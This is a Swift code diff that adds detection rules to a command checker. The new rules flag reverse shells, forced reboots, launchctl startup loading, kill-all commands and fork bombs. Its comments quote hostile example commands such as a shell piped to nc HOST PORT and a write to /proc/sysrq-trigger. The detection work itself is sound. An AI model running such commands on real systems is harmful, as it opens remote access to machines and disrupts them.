@@ -19,11 +19,30 @@ enum SystemRules {
         findings.add(power, scene)
       default: return
       }
+    case "kexec":
+      if command.arguments.contains(where: { $0.value == "-e" || $0.value == "--exec" }) { findings.add(power, scene) }
+    case "launchctl":
+      switch command.arguments.first?.value {
+      case "load", "bootstrap", "submit":
+        findings.add(
+          startupFile, scene, verdict: .ask,
+          why: "what is loaded there runs for everything that the person does from then on")
+      default: return
+      }
+    case "osascript": judge(appleScript: command, scene, &findings)
     case "kill": judge(kill: command, scene, &findings)
     case "killall5": findings.add(killAll, scene)
     case "pkill", "killall", "skill": judge(killByName: command, program, scene, &findings)
     case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
       if runsProgram(netcat: command) { findings.add(reverseShell, scene) }
+    case "telnet", "openssl":
+      if program == "telnet" || command.arguments.first?.value == "s_client",
+        command.pipedTo.contains(where: { isShell($0) })
+      {
+        findings.add(reverseShell, scene)
+      }
+    case _ where isShell(program): judge(shell: command, scene, &findings)
+    case _ where InlineScript.isInterpreter(program): judge(script: command, program, scene, &findings)
     case "socat": judge(socat: command, scene, &findings)
     case "crontab": judge(crontab: command, scene, &findings)
     case "atrm", "at", "batch":
@@ -44,6 +63,21 @@ enum SystemRules {
     if !isHarmless { findings.add(power, scene) }
   }
 
+  /// Linux' own switch for a restart without any of the usual steps: `echo b > /proc/sysrq-trigger`.
+  static func judge(trigger target: Target, _ scene: Scene, _ findings: inout Findings) {
+    guard target.path == "/proc/sysrq-trigger", !findings.has(power, scene) else { return }
+    findings.add(power, scene, target: target, into: true)
+  }
+
+  /// `osascript -e 'tell app "System Events" to shut down'`.
+  private static func judge(appleScript command: ResolvedCommand, _ scene: Scene, _ findings: inout Findings) {
+    let isPower = command.arguments.contains { argument in
+      let text = (argument.value ?? "").lowercased()
+      return ["*to shut down*", "*to restart*", "*to log out*", "*to sleep*"].contains { WordGlob.matches($0, text) }
+    }
+    if isPower { findings.add(power, scene) }
+  }
+
   // MARK: processes
 
   private static func judge(kill command: ResolvedCommand, _ scene: Scene, _ findings: inout Findings) {
@@ -55,7 +89,51 @@ enum SystemRules {
       words.removeFirst()
       if first == "-s" || first == "-n" || first == "--signal", !words.isEmpty { words.removeFirst() }
     }
-    if words.contains("-1") || words.contains("1") { findings.add(killAll, scene) }
+    if words.contains("-1") || words.contains("1") || killsListed(command, scene) { findings.add(killAll, scene) }
+  }
+
+  /// `kill $(ps -e -o pid=)` and `ps aux | awk '{print $2}' | xargs kill`: the numbers of all processes, none picked out.
+  private static func killsListed(_ command: ResolvedCommand, _ scene: Scene) -> Bool {
+    guard command.arguments.contains(where: { $0.value == nil }) else { return false }
+    var listing = scene.substituted
+    if listing.isEmpty, scene.effect.origin.through.contains(where: { $0.utf8.starts(with: "xargs".utf8) }) {
+      listing = scene.effects[..<scene.index].compactMap { earlier in
+        if case .run(let command) = earlier.action { command } else { nil }
+      }
+      if let start = listing.lastIndex(where: { $0.program == "ps" || $0.program == "pgrep" }) {
+        listing.removeFirst(start)
+      }
+    }
+    guard let first = listing.first, listsEverything(first) else { return false }
+    return listing.dropFirst().allSatisfy { filter in
+      switch filter.program {
+      case "tr", "cut", "sort", "uniq", "tee", "cat", "tail": return true
+      case "awk", "gawk", "mawk":
+        let code = filter.arguments.first?.value?.drop { $0 == " " } ?? ""
+        return code.hasPrefix("{") || code.hasPrefix("NR")
+      case "sed": return filter.arguments.contains { $0.value == "1d" }
+      default: return false
+      }
+    }
+  }
+
+  private static func listsEverything(_ command: ResolvedCommand) -> Bool {
+    let words = command.arguments.compactMap(\.value)
+    switch command.program {
+    case "ps":
+      let first = words.first ?? ""
+      return words.contains("-e") || words.contains("-A") || first == "aux" || first == "ax" || first == "-ef"
+        || first == "-aux" || first == "axo" || first == "-eo"
+    case "pgrep":
+      let options = ParsedOptions(
+        command.arguments,
+        OptionSyntax(
+          shortWithValue: "uUgGPstFd", longWithValue: ["euid", "uid", "parent", "delimiter"],
+          long: ["full", "exact", "list-name"]))
+      return options.operands.isEmpty && options.has("u", "U", "euid", "uid")
+        || options.operands.contains { $0.value == "." || $0.value == ".*" || $0.value == "" }
+    default: return false
+    }
   }
 
   private static func judge(
@@ -105,6 +183,33 @@ enum SystemRules {
     return options.has("e", "exec", "sh-exec", "lua-exec")
       || options.has("c") && options.values(of: "c").contains { ($0.value ?? "").hasSuffix("sh") }
       || command.pipedTo.contains { isShell($0) }
+  }
+
+  /// `sh -i 2>&1 | nc HOST PORT`: what a shell that reads its commands prints goes over the network.
+  private static func judge(shell command: ResolvedCommand, _ scene: Scene, _ findings: inout Findings) {
+    let isSent = command.pipedTo.contains { reader in
+      switch reader {
+      case "nc", "ncat", "netcat", "telnet", "socat", "openssl": true
+      default: false
+      }
+    }
+    guard isSent else { return }
+    let words = command.arguments.compactMap(\.value)
+    let isReading = words.allSatisfy { word in
+      word.utf8.first == UInt8(ascii: "-") && (word == "-" || !word.utf8.contains(UInt8(ascii: "c")))
+    }
+    if isReading { findings.add(reverseShell, scene) }
+  }
+
+  /// Code that ties a shell's streams to a socket, or that forks without end, in a language's own words.
+  private static func judge(
+    script command: ResolvedCommand, _ program: String, _ scene: Scene, _ findings: inout Findings
+  ) {
+    for code in InlineScript.texts(of: command, program) {
+      if InlineScript.opensShellOnSocket(code) { findings.add(reverseShell, scene) }
+      if InlineScript.killsEverything(code) { findings.add(killAll, scene) }
+      if InlineScript.forksWithoutEnd(code) { findings.add(forkBomb, scene) }
+    }
   }
 
   private static func judge(socat command: ResolvedCommand, _ scene: Scene, _ findings: inout Findings) {
